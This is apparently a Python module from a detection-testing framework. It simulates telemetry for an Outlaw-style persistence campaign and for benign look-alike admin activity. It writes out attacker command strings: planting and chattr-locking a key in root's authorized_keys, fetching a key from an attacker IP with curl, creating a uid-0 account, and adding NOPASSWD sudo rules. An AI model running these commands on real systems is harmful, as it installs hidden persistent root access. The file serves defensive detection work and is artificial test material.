"""SSH-key and spare-administrator persistence (T1098.004, T1136.001, T1548.003), as the
Outlaw ("dota") botnet and its imitators do it: from a root shell the operator plants a
key for root and locks the file with chattr, then creates an account that looks like a
service account and gives it password-less sudo.

Per instance: the host and the administrator account used to get in; the key (type,
body, comment imitating an ordinary one) and which of root's key files it goes into;
how it is written (an echo appended from a shell, Outlaw's `cd ~ && rm -rf .ssh && ...`
one-liner, tee -a, a key fetched from the operator's server and appended with cat) and
locked (chattr +i or +ia, with or without unlocking first, with or without chmod); the
account's name (an imitation of a service account), how it is created (useradd with the
sudo group, useradd or adduser followed by usermod, gpasswd or adduser into sudo, or a
second uid-0 account), how it gets a password (chpasswd, an echo into chpasswd, passwd,
usermod -p) and its sudo rule (which sudoers.d file or /etc/sudoers itself, written by a
shell redirection or tee, the rule's spelling); timing.

Look-alikes: engineers installing their own keys and administrators installing a
colleague's; Ansible managing authorized_keys (root's too, for the backup pull); key and
sudo audits reading the files; chattr on resolv.conf and other files; service accounts
created without rights; people added to ordinary groups; Ansible onboarding
administrators with sudo rules; the Azure agent provisioning a user with its sudoers file.
"""

from __future__ import annotations

import base64

from pytest_ctirealm.telemetry.campaign import Instance
from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.linux import Process
from pytest_ctirealm.telemetry.scenarios.base import Stages, Timeline, incident_start, scenario
from pytest_ctirealm.telemetry.scenarios.linux.common import (
    SH,
    LookalikeFamily,
    ansible,
    register_lookalikes,
    root_session,
    user_session,
)

CAMPAIGN = "ssh_backdoor"

#: Key type -> the base64 prefix its blobs start with, and the blob length.
_KEY_TYPES = {
    "ssh-rsa": ("AAAAB3NzaC1yc2EAAAADAQABAAABAQ", 372),
    "ssh-ed25519": ("AAAAC3NzaC1lZDI1NTE5AAAAI", 68),
    "ecdsa-sha2-nistp256": ("AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBB", 140),
}
_COMMENT_USERS = ("root", "admin", "deploy", "ops", "ubuntu", "git", "jenkins", "ansible", "cloud")
_COMMENT_HOSTS = (
    "@localhost",
    "@srv01",
    "@node-3",
    "@backup-gw",
    "@mgmt",
    "@ci-runner",
    "@bastion",
    "@web-prod",
    "@DESKTOP-7Q2M4KD",
)
_ACCOUNT_PREFIXES = ("svc-", "sys", "ops-", "sys-")
_ACCOUNT_WORDS = ("monitor", "update", "support", "audit", "relay", "sync", "agent", "telemetry")
_ACCOUNT_SUFFIXES = ("", "d", "01", "-adm", "er")
_SUDOERS_NAMES = (
    "90-cloud-init-users",
    "99-{account}",
    "{account}",
    "10-{word}",
    "zz-{word}",
    "50-{word}-ops",
)
_RULES = (
    "{account} ALL=(ALL) NOPASSWD:ALL",
    "{account} ALL=(ALL:ALL) NOPASSWD: ALL",
    "{account} ALL=NOPASSWD: ALL",
    "{account}    ALL=(root) NOPASSWD:ALL",
)
_ADMIN_GROUPS = ("sudo", "sudo,adm", "adm,sudo", "sudo,docker")


def _key(instance: Instance) -> str:
    kind = instance.pick("key_type", sorted(_KEY_TYPES))
    prefix, length = _KEY_TYPES[kind]
    blob = base64.b64encode(instance.rng.randbytes(length)).decode()
    body = (prefix + blob)[:length]
    if kind == "ssh-ed25519":
        body = body[:-1] + "="
    comment = instance.name_like("key_comment", _COMMENT_USERS, _COMMENT_HOSTS)
    return instance.keep("key", f"{kind} {body} {comment}".rstrip())


def _plant_key(t: Timeline, instance: Instance, root: Process) -> None:
    key = _key(instance)
    target = instance.pick(
        "key_file", ("/root/.ssh/authorized_keys",) * 3 + ("/root/.ssh/authorized_keys2",)
    )
    how = instance.pick("key_writer", ("echo-append", "outlaw-oneliner", "tee-append", "fetch-cat"))
    if instance.chance(0.5):
        t.run("ssh_key", root, "/usr/bin/chattr", f"chattr -ia {target}", after=(10, 40))
    # Appending to root's existing keys; the second key file is new.
    action = "FileModified" if target.endswith("keys") else "FileCreated"
    if how == "echo-append":
        writer = t.run(
            "ssh_key",
            root,
            SH,
            f"sh -c mkdir -p /root/.ssh && echo '{key}' >> {target}",
            after=(5, 40),
        )
    elif how == "outlaw-oneliner":
        name = target.rsplit("/", 1)[1]
        home = instance.pick("home_ref", ("~", "/root"))
        writer = t.run(
            "ssh_key",
            root,
            SH,
            f'sh -c cd {home} && rm -rf .ssh && mkdir .ssh && echo "{key}" >> .ssh/{name} '
            f"&& chmod -R go= {home}/.ssh",
            after=(5, 40),
        )
        action = "FileCreated"
    elif how == "tee-append":
        writer = t.run("ssh_key", root, "/usr/bin/tee", f"tee -a {target}", after=(5, 40))
    else:
        ip = instance.attacker_ip("key_server")
        staged = f"/tmp/.{instance.pick('staged_name', ('k', 'pub', 'ssh', 'id', 'kk', 'x1'))}"
        port = instance.port("key_port", (80, 443, 8080, 8000, 9000))
        t.run(
            "access",
            root,
            "/usr/bin/curl",
            f"curl -fsS http://{ip}:{port}/{instance.hex('key_path', 6)} -o {staged}",
            after=(5, 30),
        )
        writer = t.run("ssh_key", root, SH, f"sh -c cat {staged} >> {target}", after=(1, 5))
    t.file("ssh_key_file", writer, action, target, size=len(key) + instance.between(0, 1200))
    if instance.chance(0.5):
        t.run("ssh_key", root, "/usr/bin/chmod", f"chmod 600 {target}", after=(1, 5))
    lock = instance.pick("lock", ("+i", "+ia", "+ai"))
    t.run("ssh_key", root, "/usr/bin/chattr", f"chattr {lock} {target}", after=(1, 5))


def _account(instance: Instance) -> str:
    name = instance.name_like("account_name", _ACCOUNT_PREFIXES, _ACCOUNT_WORDS, _ACCOUNT_SUFFIXES)
    return name


def _create_admin(t: Timeline, instance: Instance, root: Process, account: str) -> None:
    how = instance.pick(
        "creation", ("useradd-G", "useradd+usermod", "adduser+gpasswd", "adduser+adduser", "uid0")
    )
    groups = instance.rng.choice(_ADMIN_GROUPS)
    instance.keep("admin_groups", f"-G {groups}")
    shell = instance.pick("login_shell", ("/bin/bash", "/bin/sh", "/usr/bin/bash"))
    if how == "useradd-G":
        t.run(
            "sudo_user",
            root,
            "/usr/sbin/useradd",
            f"useradd -m -s {shell} -G {groups} {account}",
            after=(30, 120),
        )
    elif how == "uid0":
        t.run(
            "sudo_user",
            root,
            "/usr/sbin/useradd",
            f"useradd -o -u 0 -g 0 -M -d /root -s {shell} {account}",
            after=(30, 120),
        )
    elif how == "useradd+usermod":
        t.run(
            "create_user",
            root,
            "/usr/sbin/useradd",
            f"useradd -m -s {shell} {account}",
            after=(30, 120),
        )
        t.run(
            "sudo_user", root, "/usr/sbin/usermod", f"usermod -aG {groups} {account}", after=(2, 9)
        )
    else:
        adduser = t.run(
            "create_user",
            root,
            "/usr/sbin/adduser",
            f"adduser --disabled-password --gecos  {account}",
            after=(30, 120),
        )
        t.run(
            "create_user",
            adduser,
            "/usr/sbin/useradd",
            f"/usr/sbin/useradd -d /home/{account} -g {account} -s /bin/bash -u {instance.between(1008, 1090)} {account}",
        )
        group = "sudo"  # gpasswd and adduser take one group
        if how == "adduser+gpasswd":
            t.run(
                "sudo_user", root, "/usr/bin/gpasswd", f"gpasswd -a {account} {group}", after=(2, 9)
            )
        else:
            t.run(
                "sudo_user", root, "/usr/sbin/adduser", f"adduser {account} {group}", after=(2, 9)
            )


def _keep_alive(t: Timeline, instance: Instance, root: Process, account: str) -> None:
    """The account is checked and kept from expiring (no rights are granted here)."""
    how = instance.pick("account_check", ("chage", "id", "getent"))
    if how == "chage":
        t.run(
            "create_user",
            root,
            "/usr/bin/chage",
            f"chage -I -1 -m 0 -M 99999 -E -1 {account}",
            after=(2, 9),
        )
    elif how == "id":
        t.run("create_user", root, "/usr/bin/id", f"id {account}", after=(2, 9))
    else:
        t.run("create_user", root, "/usr/bin/getent", f"getent passwd {account}", after=(2, 9))


def _set_password(t: Timeline, instance: Instance, root: Process, account: str) -> None:
    how = instance.pick("password", ("chpasswd", "echo-chpasswd", "passwd", "usermod-p"))
    if how == "chpasswd":
        t.run("set_password", root, "/usr/sbin/chpasswd", "chpasswd", after=(2, 6))
    elif how == "echo-chpasswd":
        secret = instance.hex("password_value", 12)
        shell = t.run(
            "set_password", root, SH, f"sh -c echo '{account}:{secret}' | chpasswd", after=(2, 6)
        )
        t.run("set_password", shell, "/usr/sbin/chpasswd", "chpasswd")
    elif how == "passwd":
        t.run("set_password", root, "/usr/bin/passwd", f"passwd {account}", after=(2, 6))
    else:
        salt = instance.hex("salt", 16)
        digest = instance.hex("digest", 43)
        t.run(
            "set_password",
            root,
            "/usr/sbin/usermod",
            f"usermod -p $6${salt}${digest} {account}",
            after=(2, 6),
        )


def _sudo_rule(t: Timeline, instance: Instance, root: Process, account: str) -> None:
    word = account.removeprefix("svc-").removeprefix("ops-").removeprefix("sys-")
    word = word.removeprefix("sys") or "ops"
    target = instance.pick("sudo_rule_in", ("drop-in",) * 3 + ("main-file",))
    if target == "main-file":
        path = "/etc/sudoers"
    else:
        name = instance.pick("sudoers_name", _SUDOERS_NAMES).format(account=account, word=word)
        path = instance.keep("sudoers_file", f"/etc/sudoers.d/{name}")
    rule = instance.pick("rule", _RULES).format(account=account)
    append = path in ("/etc/sudoers", "/etc/sudoers.d/90-cloud-init-users")
    how = instance.pick("rule_writer", ("echo-redirect", "tee"))
    if how == "tee":
        writer = t.run(
            "sudo_user",
            root,
            "/usr/bin/tee",
            f"tee {'-a ' if append else ''}{path}",
            after=(3, 20),
        )
    else:
        writer = t.run(
            "sudo_user",
            root,
            SH,
            f"sh -c echo '{rule}' {'>>' if append else '>'} {path}",
            after=(3, 20),
        )
    action = "FileModified" if append else "FileCreated"
    t.file("sudoers_file", writer, action, path, size=len(rule) + 1)


@scenario(
    CAMPAIGN,
    "linux",
    (
        "access",
        "ssh_key",
        "ssh_key_file",
        "create_user",
        "sudo_user",
        "set_password",
        "sudoers_file",
    ),
)
def ssh_backdoor(ctx: SimContext) -> Stages:
    """Plant and lock root's key, then add a spare administrator."""
    instance = Instance(ctx, CAMPAIGN)
    host = instance.linux_host("host")
    admin = instance.pick("account", host.admin_users)
    t = Timeline(ctx, CAMPAIGN, host, incident_start(ctx, "sshkey", (0, 22)))
    root = root_session(t, admin)
    _plant_key(t, instance, root)
    account = _account(instance)
    _create_admin(t, instance, root, account)
    _keep_alive(t, instance, root, account)
    _set_password(t, instance, root, account)
    _sudo_rule(t, instance, root, account)
    return t.stages


# -- look-alikes ---------------------------------------------------------------------------


def _public_key(t: Timeline, comment: str) -> str:
    kind = t.rng.choice(("ssh-ed25519", "ssh-rsa"))
    prefix, length = _KEY_TYPES[kind]
    return (
        f"{kind} {(prefix + base64.b64encode(t.rng.randbytes(length)).decode())[:length]} {comment}"
    )


def _user_key_install(ctx: SimContext, family: LookalikeFamily) -> None:
    """Engineers add a new laptop's key to their own account; an administrator installs
    a colleague's key as root."""
    stage = family.name
    for host, moment in family.moments(1, 2):
        t = family.on(host, moment)
        user = t.rng.choice(host.admin_users)
        path = f"/home/{user}/.ssh/authorized_keys"
        how = t.rng.random()
        if how < 0.4:
            login = user_session(t, user, stage)
            writer = t.run(stage, login, "/usr/bin/tee", f"tee -a {path}", after=(10, 60))
        elif how < 0.7:
            login = user_session(t, user, stage)
            key = _public_key(t, f"{user}@contoso-laptop")
            writer = t.run(stage, login, SH, f"sh -c echo '{key}' >> {path}", after=(10, 60))
        else:
            root = root_session(t, t.rng.choice(host.admin_users), stage=stage)
            writer = t.run(stage, root, "/usr/bin/tee", f"tee -a {path}", after=(10, 60))
            t.run(stage, root, "/usr/bin/chown", f"chown {user}:{user} {path}")
        t.file(stage, writer, "FileModified", path)
        t.run(stage, writer.parent or writer, "/usr/bin/chmod", f"chmod 600 {path}", after=(1, 9))


def _ansible_authorized_key(ctx: SimContext, family: LookalikeFamily) -> None:
    """Ansible's authorized_key module: the backup server's pull key for root on the
    database server, and the admins' keys everywhere (written to a temporary file in the
    directory, then moved into place)."""
    stage = family.name
    for t, root in family.root_sessions(family.moments(1, 2), user="azureuser"):
        host = root.host
        module = ansible(t, root, stage, "authorized_key")
        home = "/root" if host.role == "db" or t.rng.random() < 0.4 else "/home/azureuser"
        temp = f"{home}/.ssh/.ansible_tmp{t.rng.getrandbits(32):08x}authorized_keys"
        t.file(stage, module, "FileCreated", temp)
        t.file(stage, module, "FileRenamed", f"{home}/.ssh/authorized_keys", previous=temp)


_AUDIT = (
    ("/usr/bin/cat", "cat /root/.ssh/authorized_keys"),
    ("/usr/bin/ssh-keygen", "ssh-keygen -lf /root/.ssh/authorized_keys"),
    ("/usr/bin/lsattr", "lsattr /root/.ssh/authorized_keys"),
    ("/usr/bin/grep", "grep -c ssh- /root/.ssh/authorized_keys"),
    ("/usr/bin/wc", "wc -l /root/.ssh/authorized_keys /home/azureuser/.ssh/authorized_keys"),
    ("/usr/bin/stat", "stat /root/.ssh/authorized_keys"),
    ("/usr/bin/ls", "ls -la /root/.ssh/"),
)


def _key_audit(ctx: SimContext, family: LookalikeFamily) -> None:
    """Administrators and the compliance job read root's key files."""
    stage = family.name
    for t, root in family.root_sessions(family.moments(1, 2)):
        for image, command in t.rng.sample(_AUDIT, t.rng.randint(2, 4)):
            t.run(stage, root, image, command, after=(5, 60))
        if t.rng.random() < 0.4:
            t.run(
                stage,
                root,
                SH,
                f"sh -c cat /root/.ssh/authorized_keys > /var/tmp/keys-{t.now:%Y%m%d}.txt",
            )


_IMMUTABLE = (
    "/etc/resolv.conf",
    "/etc/hosts",
    "/etc/waagent.conf",
    "/etc/nginx/ssl/contoso.key",
    "/opt/app/config/prod.env",
)


def _immutable_files(ctx: SimContext, family: LookalikeFamily) -> None:
    """Administrators pin files against overwrites (resolv.conf against DHCP) with chattr."""
    stage = family.name
    for t, root in family.root_sessions(family.moments(1, 2)):
        path = t.rng.choice(_IMMUTABLE)
        t.run(stage, root, "/usr/bin/lsattr", f"lsattr {path}", after=(5, 30))
        if t.rng.random() < 0.5:
            t.run(stage, root, "/usr/bin/chattr", f"chattr -i {path}", after=(5, 30))
            t.run(stage, root, "/usr/bin/vim.basic", f"vim {path}", after=(5, 30))
        t.run(stage, root, "/usr/bin/chattr", f"chattr +i {path}", after=(5, 60))


_SERVICE_USERS = (
    "prometheus",
    "node_exporter",
    "pgbouncer",
    "filebeat",
    "grafana-agent",
    "otelcol",
)


def _service_accounts(ctx: SimContext, family: LookalikeFamily) -> None:
    """System accounts for new services, with no login and no rights."""
    stage = family.name
    for t, root in family.root_sessions(family.moments(1, 2)):
        name = t.rng.choice(_SERVICE_USERS)
        if t.rng.random() < 0.5:
            adder = t.run(
                stage,
                root,
                "/usr/sbin/useradd",
                f"useradd --system --no-create-home --shell /usr/sbin/nologin {name}",
            )
        else:
            adder = t.run(
                stage,
                root,
                "/usr/sbin/adduser",
                f"adduser --system --group --no-create-home {name}",
            )
            t.run(stage, adder, "/usr/sbin/groupadd", f"/usr/sbin/groupadd -r {name}")
        t.file(stage, adder, "FileModified", "/etc/passwd")
        t.file(stage, adder, "FileModified", "/etc/group")


_ORDINARY_GROUPS = ("docker", "adm", "systemd-journal", "www-data", "ssl-cert", "postgres")


def _group_membership(ctx: SimContext, family: LookalikeFamily) -> None:
    """People added to ordinary groups (log reading, docker, the web content group)."""
    stage = family.name
    for t, root in family.root_sessions(family.moments(1, 2)):
        host = root.host
        user = t.rng.choice((*host.admin_users, "runner", "app"))
        group = t.rng.choice(_ORDINARY_GROUPS)
        how = t.rng.random()
        if how < 0.5:
            adder = t.run(stage, root, "/usr/sbin/usermod", f"usermod -aG {group} {user}")
        elif how < 0.75:
            adder = t.run(stage, root, "/usr/bin/gpasswd", f"gpasswd -a {user} {group}")
        else:
            adder = t.run(stage, root, "/usr/sbin/adduser", f"adduser {user} {group}")
        t.file(stage, adder, "FileModified", "/etc/group")
        t.run(stage, root, "/usr/bin/id", f"id {user}", after=(2, 20))


_TEAMS = ("platform-admins", "dba", "sre-oncall", "deploy")


def _ansible_onboarding(ctx: SimContext, family: LookalikeFamily) -> None:
    """Ansible onboards an administrator: the user module runs usermod with the sudo
    group, and a validated sudo rule for the team is copied into /etc/sudoers.d."""
    stage = family.name
    for t, root in family.root_sessions(family.moments(1, 1), user="azureuser"):
        person = t.rng.choice(("sofia.jansen", "liam.devries", "raj.patel", "alice.smith"))
        user = ansible(t, root, stage, "user")
        usermod = t.run(
            stage, user, "/usr/sbin/usermod", f"/usr/sbin/usermod -a -G sudo,adm {person}"
        )
        t.file(stage, usermod, "FileModified", "/etc/group")
        copy = ansible(t, root, stage, "copy")
        team = t.rng.choice(_TEAMS)
        temp = f"/etc/sudoers.d/.ansible_tmp{t.rng.getrandbits(32):08x}{team}"
        t.file(stage, copy, "FileCreated", temp)
        t.run(stage, copy, "/usr/sbin/visudo", f"/usr/sbin/visudo -cf {temp}")
        t.file(stage, copy, "FileRenamed", f"/etc/sudoers.d/{team}", previous=temp)


def _azure_user_provisioning(ctx: SimContext, family: LookalikeFamily) -> None:
    """The VMAccess extension (a password or key reset from the portal) creates the user
    and writes the agent's sudo rule for it."""
    stage = family.name
    for host, moment in family.moments(1, 1):
        t = family.on(host, moment)
        handler = t.run(
            stage,
            t.daemon("exthandlers"),
            "/usr/bin/python3",
            "python3 /var/lib/waagent/Microsoft.OSTCExtensions.VMAccessForLinux-1.5.18/vmaccess.py -enable",
            "root",
        )
        user = t.rng.choice(("azureuser", "breakglass", "contoso-admin"))
        t.run(stage, handler, "/usr/sbin/useradd", f"useradd -m {user}")
        t.run(stage, handler, "/usr/sbin/chpasswd", "chpasswd")
        t.file(stage, handler, "FileModified", "/etc/sudoers.d/waagent")
        t.file(stage, handler, "FileModified", f"/home/{user}/.ssh/authorized_keys")


def _sudo_audit(ctx: SimContext, family: LookalikeFamily) -> None:
    """Security reviews of who may sudo."""
    stage = family.name
    commands = (
        ("/usr/bin/grep", "grep -rn NOPASSWD /etc/sudoers /etc/sudoers.d"),
        ("/usr/bin/cat", "cat /etc/sudoers.d/90-cloud-init-users"),
        ("/usr/bin/getent", "getent group sudo"),
        ("/usr/sbin/visudo", "visudo -c"),
        ("/usr/bin/ls", "ls -la /etc/sudoers.d"),
        ("/usr/bin/sudo", "sudo -l -U azureuser"),
        ("/usr/bin/lastlog", "lastlog -b 0 -t 30"),
    )
    for t, root in family.root_sessions(family.moments(1, 2)):
        for image, command in t.rng.sample(commands, t.rng.randint(2, 4)):
            t.run(stage, root, image, command, after=(5, 60))


_FAMILIES = {
    "user_key_install": _user_key_install,
    "ansible_authorized_key": _ansible_authorized_key,
    "key_audit": _key_audit,
    "immutable_files": _immutable_files,
    "service_accounts": _service_accounts,
    "group_membership": _group_membership,
    "ansible_onboarding": _ansible_onboarding,
    "azure_user_provisioning": _azure_user_provisioning,
    "sudo_audit": _sudo_audit,
}

register_lookalikes(CAMPAIGN, _FAMILIES)
